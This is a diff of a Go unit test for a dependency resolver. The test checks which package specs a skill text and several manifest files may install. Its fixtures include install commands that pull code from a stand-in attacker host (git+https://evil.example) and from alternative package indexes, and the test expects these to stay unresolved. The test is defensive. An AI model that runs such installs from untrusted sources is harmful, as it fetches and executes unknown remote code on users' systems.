@@ -141,11 +141,13 @@ const script = `# /// script
 `
 
 func TestNeeds(t *testing.T) {
-	texts := &imports.Texts{Script: []byte(script), Skill: []byte("Run `pip install zq_skill docx git+https://evil.example/x`."),
+	texts := &imports.Texts{Script: []byte(script), Skill: []byte("Run `pip install zq_skill docx git+https://evil.example/x`, " +
+		"`pip install --index-url https://corp.example zq_corp`, `npm install --registry=https://corp.example zq-c`."),
 		Files: map[string][]byte{
-			"requirements.txt": []byte("zq.req[x]>=1,<2 # why\n-r other.txt\npyyaml==6.0\n"),
-			"pyproject.toml":   []byte("[project]\ndependencies = ['zq-project~=1.0']\n"),
-			"package.json":     []byte(`{"dependencies":{"zq-n":"^1.2.0","zq-u":"git+https://evil.example"}}`),
+			"requirements.txt":   []byte("zq.req[x]>=1,<2 # why\n-r other.txt\npyyaml==6.0\n"),
+			"a/requirements.txt": []byte("--extra-index-url https://corp.example\nzq-inner\n"),
+			"pyproject.toml":     []byte("[project]\ndependencies = ['zq-project~=1.0']\n"),
+			"package.json":       []byte(`{"dependencies":{"zq-n":"^1.2.0","zq-u":"git+https://evil.example"}}`),
 		}}
 	tests := []struct {
 		module, spec string
@@ -163,6 +165,10 @@ func TestNeeds(t *testing.T) {
 		{module: "docx", spec: "python-docx", source: imports.FromTable},
 		{module: "idea"},
 		{module: "evil"},
+		// They are packages of another index.
+		{module: "zq_corp"},
+		{module: "zq_inner"},
+		{module: "zq-c", node: true},
 		{module: "zq-n", spec: "zq-n@^1.2.0", source: imports.FromRequirements, node: true},
 		{module: "zq-u", node: true},
 		{module: "docx", spec: "docx", source: imports.FromTable, node: true},
